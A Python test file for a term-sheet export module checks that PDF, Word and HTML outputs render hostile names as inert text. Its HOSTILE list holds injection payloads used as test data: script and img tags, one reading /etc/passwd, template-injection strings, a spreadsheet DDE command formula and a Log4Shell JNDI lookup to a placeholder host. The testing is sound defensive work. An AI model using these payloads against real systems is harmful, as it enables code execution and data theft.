import io
import sys
import zipfile
from collections.abc import Iterator

import pypdf
import pytest
from docx import Document

from atlas_core.errors import UnavailableError
from atlas_core.exchange.term_sheet.portable import html, pdf
from atlas_core.exchange.term_sheet.sheet import Section, Sheet, Table, printable
from atlas_core.exchange.term_sheet.word import docx
from atlas_core.fields.kinds import MOST_CHARACTERS

HOSTILE = (
    "<script>alert(1)</script>",
    '<img src="file:///etc/passwd">',
    '"><link rel=stylesheet href="http://192.0.2.1/x.css">',
    "{{ 7 * 7 }}{% for x in y %}{{ config }}",
    "=cmd|' /C calc'!A0",
    "]]></w:t></w:r><w:p/>&amp;&lt;",
    "${jndi:ldap://192.0.2.1}",
    "O’Neill & Söhne – “Rechenzentrum” 1 < 2",
)


def sheet(name: str, *more: Section) -> Sheet:
    facts = Table(("Name", "Value"), [(name, name), ("Total", "2.0")], figures=True, totals=1)
    section = Section(name, name, [facts, Table(("A",), [])], name)
    return Sheet(name, name, name, [(name, name)], [section, *more], name)


def in_pdf(content: bytes) -> str:
    return squeezed("".join(page.extract_text() for page in pypdf.PdfReader(io.BytesIO(content)).pages))


def in_word(content: bytes) -> Iterator[str]:
    document = Document(io.BytesIO(content))
    yield from (paragraph.text for paragraph in document.paragraphs)
    yield from (cell.text for table in document.tables for row in table.rows for cell in row.cells)
    yield document.sections[0].footer.paragraphs[0].text


def squeezed(text: str) -> str:
    """Leave blanks out: where a line ends is the layout's affair."""
    return "".join(text.split())


@pytest.fixture(scope="module")
def hostile() -> Sheet:
    return sheet(HOSTILE[0], *(Section(name, name, [Table((name,), [(name,)])]) for name in HOSTILE[1:]))


def test_hostile_names_come_out_of_the_pdf_as_text(hostile):
    content = pdf(hostile)
    text, reader = in_pdf(content), pypdf.PdfReader(io.BytesIO(content))
    assert [name for name in HOSTILE if squeezed(name) not in text] == []
    assert b"/JavaScript" not in content
    assert not any("/Annots" in page or list(page.images) for page in reader.pages)


def test_hostile_names_come_out_of_the_word_file_as_text(hostile):
    content = docx(hostile)
    found = list(in_word(content))
    assert [name for name in HOSTILE if name not in found] == []
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        relations = parts.read("word/_rels/document.xml.rels") + parts.read("word/document.xml")
        assert b"TargetMode" not in relations
        assert b"instrText" not in parts.read("word/document.xml")


def test_the_page_that_is_laid_out_holds_no_markup_of_a_name(hostile):
    page = html(hostile)
    assert "<script" not in page
    assert "<img" not in page
    assert "<link" not in page


def test_the_longest_name_without_a_blank_stays_on_the_page():
    name = "W" * MOST_CHARACTERS
    page = pypdf.PdfReader(io.BytesIO(pdf(sheet(name)))).pages[0]
    lines = [line for line in page.extract_text().splitlines() if "WW" in line]
    assert sum(map(len, lines)) > 5 * MOST_CHARACTERS
    assert max(map(len, lines)) < 120
    assert name in in_word(docx(sheet(name)))


@pytest.mark.parametrize("made", [pdf, docx])
def test_the_same_sheet_gives_the_same_bytes(made):
    assert made(sheet("Frankfurt")) == made(sheet("Frankfurt"))


@pytest.mark.parametrize("made", [pdf, docx])
def test_characters_that_no_document_holds_are_left_out(made):
    assert made(sheet("a\x00\x0b\ud800b\u202ec")) == made(sheet("abc"))


def test_signs_of_figures_and_names_stay():
    kept = "€1.2m −3.4\u202f% +\u2060€2 Zürich 東京 ١٢٣"
    assert printable(kept) == kept


def test_sums_are_bold_in_word():
    table = next(t for t in Document(io.BytesIO(docx(sheet("Deal")))).tables if t.rows[0].cells[0].text == "Name")
    bold = [[run.bold for run in row.cells[1].paragraphs[0].runs if run.text] for row in table.rows[1:]]
    assert bold == [[None], [True]]


def test_a_pdf_is_tagged_and_names_its_language():
    catalogue = pypdf.PdfReader(io.BytesIO(pdf(sheet("Deal")))).trailer["/Root"]
    assert catalogue["/Lang"] == "en-GB"
    assert catalogue["/MarkInfo"]["/Marked"]


def test_without_pango_the_refusal_names_the_way_out(monkeypatch):
    class Absent:
        def find_spec(self, name, *_):
            if name == "weasyprint":
                raise OSError("cannot load library 'pango-1.0-0'")

    monkeypatch.delitem(sys.modules, "weasyprint", raising=False)
    monkeypatch.setattr(sys, "meta_path", [Absent(), *sys.meta_path])
    with pytest.raises(UnavailableError, match="Take the Word file, or install Pango"):
        pdf(sheet("Deal"))
